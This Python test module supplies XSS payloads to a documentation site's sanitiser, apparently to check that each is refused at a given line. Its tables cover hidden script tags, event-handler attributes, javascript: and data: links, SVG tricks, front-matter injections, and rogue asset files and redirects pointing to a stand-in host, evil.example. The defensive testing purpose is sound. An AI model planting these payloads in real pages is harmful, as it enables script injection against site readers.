"""Payloads: what somebody might hide in a contribution so that it runs for every reader.

In each, `RUN` stands for a program that leaves a mark of its own, and `evil` for another's site;
the first line that holds either is that at which it must be refused, if it is not inert.
"""

from __future__ import annotations

from dataclasses import dataclass

TAG = "<script>RUN</script>"

COMMENTS = (
    f"<!--> {TAG} -->",
    f"<!---> {TAG} -->",
    f"<!-- --!> {TAG} -->",
    f"Texto <!--> {TAG} --> y más.",
    f"Texto <!-- --!> {TAG} --> y más.",
    f"<!-- a -- > {TAG} -->\n-->",
    f"<!-- <!-- --> {TAG} -->",
    f"<!-->\n{TAG}\n-->",
    f"<!-- concordance: off --!> {TAG} -->",
    f"<![CDATA[ > {TAG} ]]>",
    f"<!DOCTYPE x [ > {TAG} ]>",
    f"<?php > {TAG} ?>",
    f"<? {TAG} ?>",
    f"</ > {TAG}",
    f"<! > {TAG} >",
    f"- item <!-->\n  {TAG} -->",
    f"> cita <!---> {TAG} -->",
)
FENCES = (
    f"```js foo bar\n{TAG}\n```",
    f"``` {{onclick\n{TAG}\n```",
    f"~~~ js x y z\n{TAG}\n~~~",
    f"Texto\n   ```\n   {TAG}\n   ```",
    f"<div markdown>\n```\n{TAG}\n```\n</div>",
    f"```{TAG}\n```",
    f"```\n{TAG}\n``",
    f"````\n{TAG}\n```",
    f"``` js {{.a}} b\n{TAG}\n```",
    f"- a\n ```\n {TAG}\n ```",
    f"1. a\n\n  ```\n  {TAG}\n  ```",
    f"``` python hl_lines=1 x\n{TAG}\n```",
    f"~~~~ {{ .js #x\n{TAG}\n~~~~",
    f"```\n\n{TAG}\n\n```x",
    f"<pre><code>\n{TAG}\n</code></pre>",
    f"<code>{TAG}</code>",
    f"Con `` `{TAG} ` fin.",
    f"Con \\`{TAG}\\` fin.",
    f"Con `uno {TAG}",
    f"<pre>\n\n{TAG}\n\n</pre>",
)
MATHS = (
    f"Sea $a_1{TAG}$ aquí.",
    f"$$\n{TAG}\n$$",
    f"$${TAG}$$",
    f"Sea $x$ y ${TAG}$.",
    f"\\({TAG}\\)",
    f"\\[\n{TAG}\n\\]",
    f"Sea $`{TAG}`$.",
    f'<span class="arithmatex">\\({TAG}\\)</span>',
)
ATTRIBUTES = (
    'Un párrafo.\n{: onmouseover="if(1){RUN}" }',
    'Un [enlace](index.md){ title="}" href="javascript:RUN" }.',
    'Un [enlace](index.md){ href="javascript:(function(){RUN})()" }.',
    "Un párrafo.\n{: onclick=RUN }",
    "Un párrafo.\n{: #a .b onclick='RUN' }",
    "## Título {: onclick=RUN }",
    '## Título {#t onmouseover="RUN" }',
    "*énfasis*{ onmouseover=RUN }",
    "![imagen](x.png){ onerror=RUN }",
    '![imagen](x.png){ src=x onerror="RUN" }',
    "| a | b |\n|---|---|\n| c | d { onclick=RUN } |",
    "- uno\n{: onclick=RUN }",
    "<p onclick=RUN>a</p>",
    "<p ONCLICK='RUN'>a</p>",
    "<p/onclick=RUN>a</p>",
    "<p title='a'onclick=RUN>a</p>",
    "<p\nonclick\n=\nRUN>a</p>",
    "<details open ontoggle=RUN>a</details>",
    "<video><source onerror=RUN></video>",
    "<img src=x onerror=RUN>",
    "<img src='x'\tonerror\t=\t'RUN'>",
    "<img src=x onerror=&#82;UN;RUN>",
    "<input autofocus onfocus=RUN>",
    "<body onload=RUN>",
    "<b onpointerenter=RUN style='position:fixed;inset:0'>a</b>",
    "<a b='>' onclick=RUN>a</a>",
    "<marquee onstart=RUN>a</marquee>",
    "<p popover ontoggle=RUN id=q>a</p><button popovertarget=q>b</button>",
)
ELEMENTS = (
    TAG,
    "<SCRIPT>RUN</SCRIPT>",
    "<script\n>RUN</script >",
    "<script type=module>RUN</script>",
    "<script type=text/javascript async>RUN</script>",
    "<script type='application/ecmascript'>RUN</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src='data:text/javascript,RUN'></script>",
    '<script type=importmap>{"imports":{"x":"data:text/javascript,RUN"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    '<script id="__config" type="application/json">{"base":"https://evil.example/"}</script>',
    "<iframe src=https://evil.example/></iframe>",
    '<div id="__config">{"base": "https://evil.example/"}</div>',
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src='javascript:parent.RUN'></iframe>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<embed src='javascript:RUN'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta content='0;url=javascript:RUN' HTTP-EQUIV=refresh>",
    "<form action=https://evil.example/><input><button>a</button></form>",
    "<form action=javascript:RUN><button>a</button></form>",
    "<form id=f></form><button form=f formaction=javascript:RUN>a</button>",
    "<input type=submit formaction=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=modulepreload href=https://evil.example/x.js>",
    "<div><template shadowrootmode=open><script>RUN</script></template></div>",
    "<div><template shadowrootmode=closed><img src=x onerror=RUN></template></div>",
    '<noscript><p title="</noscript><script>RUN</script>"></noscript>',
    "<noscript><!-- </noscript><script>RUN</script> --></noscript>",
    "<style><!--</style><script>RUN</script>--></style>",
    "<textarea><!--</textarea><script>RUN</script>--></textarea>",
    '<xmp><p title="</xmp><script>RUN</script>"></xmp>',
    '<noembed><p title="</noembed><script>RUN</script>"></noembed>',
    '<noframes><p title="</noframes><script>RUN</script>"></noframes>',
    '<title><p title="</title><script>RUN</script>">',
    "<plaintext>\n\n<script>RUN</script>",
    "<select><script>RUN</script></select>",
    "<table><script>RUN</script></table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=RUN&gt;'>",
    "<frameset onload=RUN></frameset>",
    "<applet code=evil></applet>",
    "<p>a<script>RUN</script>b</p>",
    "Texto <script>RUN</script> más.",
    "Nota.[^1]\n\n[^1]: <script>RUN</script>",
    '!!! note "<script>RUN</script>"\n    a',
    '??? note "<img src=x onerror=RUN>"\n    a',
    '=== "<script>RUN</script>"\n\n    a',
    "*[IA]: <script>RUN</script>\n\nLa IA.",
    '*[IA]: "><script>RUN</script>\n\nLa IA.',
    "Término\n:   <script>RUN</script>",
    "- [ ] <script>RUN</script>",
    "<<script>script>RUN<</script>/script>",
    "<scr\0ipt>RUN</scr\0ipt>",
)
LINKS = (
    "[a](javascript:RUN)",
    "[a](JaVaScRiPt:RUN)",
    "[a](<java\tscript:RUN>)",
    "[a](javascript&colon;RUN)",
    "[a](&#106;avascript:RUN)",
    "[a](&#x6A&#x61vascript:RUN)",
    "[a](\x01javascript:RUN)",
    "[a](vbscript:RUN)",
    "[a][b]\n\n[b]: javascript:RUN",
    "[a]\n\n[a]: <javascript:RUN>",
    "<javascript:RUN>",
    "[a](data:text/html,<script>RUN</script>)",
    "[a](data:;base64,UlVO 'RUN')",
    "[a](data:,evil)",
    "[a](data:image/svg+xml,<svg/onload=RUN>)",
    "<a href='data:application/xhtml+xml,RUN'>a</a>",
    '<a href="java&Tab;script&colon;RUN">a</a>',
    '<a href="java&NewLine;script:RUN">a</a>',
    "<a href=' javascript:RUN'>a</a>",
    "<area href=javascript:RUN>",
    "[![a](x.png)](javascript:RUN)",
    '[a](index.md "\\"onmouseover=RUN")',
    "[a](index.md '\"onmouseover=RUN x=\"')",
    '![a" onerror="RUN](x.png)',
    '![a](x.png"onerror="RUN)',
    "![a](x.png 'b\" onerror=\"RUN')",
    '[a](x" onclick="RUN)',
)
SVG = (
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href='data:text/javascript,RUN'></script></svg>",
    "<svg><script xlink:href='https://evil.example/x.js'></script></svg>",
    "<svg><a xlink:href='javascript:RUN'><text>a</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:RUN'/><text>a</text></a></svg>",
    "<svg><a><set attributeName='xlink:href' to='javascript:RUN'/><text>a</text></a></svg>",
    "<svg><set attributeName=onmouseover to='RUN'></set></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></animate></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></iframe></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg><title><script>RUN</script></title></svg>",
    "<svg><desc><b onclick=RUN>a</b></desc></svg>",
    "<math><a xlink:href='javascript:RUN'>a</a></math>",
    "<math href='javascript:RUN'><mi>a</mi></math>",
    "<svg><![CDATA[><script>RUN</script>]]></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
)
FRONT = (
    'description: "\\"><script>RUN</script>a"',
    "description: '\" onload=\"RUN'",
    "description: '0;url=https://evil.example/\" http-equiv=\"refresh'",
    "description: '</head><body onload=RUN>'",
    "title: <script>RUN</script>a",
    "title: a</title><script>RUN</script>",
    'title: "&lt;script&gt;RUN&lt;/script&gt;"',
    'title: "&lt;/title&gt;&lt;script&gt;RUN&lt;/script&gt;"',
    "title: <img src=x onerror=RUN>",
    "title: |\n  a\n  <script>RUN</script>",
    "author: '\"><script>RUN</script>'",
    "author: '\" http-equiv=refresh content=\"0;url=https://evil.example/'",
    "revision_date: <script>RUN</script>",
    "git_revision_date_localized: <script>RUN</script>",
    "git_creation_date_localized: <script>RUN</script>",
    "subtitle: <script>RUN</script>",
    "status: '\"><script>RUN</script>'",
    "tags: ['<script>RUN</script>']",
    "hide: ['<script>RUN</script>']",
    "template: redirect.html\nlocation: '\"];RUN;[\"'",
    "template: redirect.html\nlocation: 'javascript:RUN'",
    "source: <script>RUN</script>",
    "og:\n  title: <script>RUN</script>",
    "term: <script>RUN</script>\ndefinition: <script>RUN</script>",
)
TITLES = (
    "# <script>RUN</script>",
    "# &lt;script&gt;RUN&lt;/script&gt;",
    "# `<script>RUN</script>`",
    "# a &lt;/title&gt;&lt;script&gt;RUN&lt;/script&gt;",
    "# a `</title><script>RUN</script>`",
    "# &amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "# <b onclick=RUN>a</b>",
    "# ![<script>RUN</script>](x.png)",
    "## a `<img src=x onerror=RUN>`",
    "## &lt;img src=x onerror=RUN&gt;",
)

FILES = {
    "assets/a.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"/>',
    "assets/b.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<script>evil()</script></svg>',
    "assets/javascripts/bundle.a5f9d56c.min.js": "evil()",
    "assets/images/favicon.png": "evil",
    "assets/concordance/reader.css": "body { background: url(https://evil.example/) }",
    "es/login.html": "<meta name=robots content=noindex><script>evil()</script>",
    "es/evil.xml": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">evil()</x:script>',
    "sw.js": "evil()",
    "_headers": "/*\n  Content-Security-Policy: script-src *",
    "_redirects": "/* https://evil.example/",
    "CNAME": "evil.example",
    "robots.txt": "evil",
}
"""Files of the docs folder that are refused, each at its path."""
FIGURE = """\
kind: blocks
title: {{fr: "{0}", es: "{0}"}}
description: {{fr: "{0}", es: "{0}"}}
caption: {{fr: "{0}", es: "{0}"}}
unit: 1e3
items:
  - {{id: a, value: 1e3, label: <b onclick=x>, note: "<script>x"}}
"""
DATA = tuple(
    FIGURE.format(text.replace('"', '\\"'))
    for text in (
        "<script>RUN</script>",
        '"><script>RUN</script>',
        "' onclick='RUN",
        '" onmouseover="RUN" x="',
        "<img src=x onerror=RUN>",
        "</svg><script>RUN</script>",
        "</title><script>RUN</script>",
        "]]><script>RUN</script>",
        "--><script>RUN</script>",
        "&lt;script&gt;RUN&lt;/script&gt;",
        "[a](javascript:RUN)",
        "{: onclick=RUN }",
        "`<script>RUN</script>",
        "$<script>RUN</script>$",
    )
)
"""Figures whose every text is a payload: drawn, they are inert."""


@dataclass(frozen=True)
class Payload:
    """One payload: its kind, its number in the table, and the text of its page."""

    kind: str
    number: int
    text: str

    @property
    def line(self) -> int:
        """Return the line at which it must be refused."""
        at = min(at for word in ("x_", "evil") if (at := self.text.find(word)) >= 0)
        return self.text.count("\n", 0, at) + 1

    @property
    def name(self) -> str:
        """Return the name of its page."""
        return f"p{self.number}"


def payloads() -> list[Payload]:
    """Return every payload with a page of its own."""
    front = [f"---\n{text}\n---\n\n# Una página\n\nTexto.\n" for text in FRONT]
    kinds = {
        "comment": [_page(text) for text in COMMENTS],
        "fence": [_page(text) for text in FENCES],
        "maths": [_page(text) for text in MATHS],
        "attribute": [_page(text) for text in ATTRIBUTES],
        "element": [_page(text) for text in ELEMENTS],
        "link": [_page(text) for text in LINKS],
        "svg": [_page(text) for text in SVG],
        "front matter": front,
        "title": [f"{text}\n\nTexto.\n" for text in TITLES],
    }
    every = [(kind, text) for kind, texts in kinds.items() for text in texts]
    return [
        Payload(kind, number, text.replace("RUN", f"window.x_{number}=1"))
        for number, (kind, text) in enumerate(every)
    ]


def figures() -> list[Payload]:
    """Return every payload of a data file; its text is the file's."""
    first = len(payloads())
    return [
        Payload("data file", number, text.replace("RUN", f"window.x_{number}=1"))
        for number, text in enumerate(DATA, first)
    ]


def _page(text: str) -> str:
    return f"# Una página\n\nTexto antes.\n\n{text}\n\nTexto después.\n"
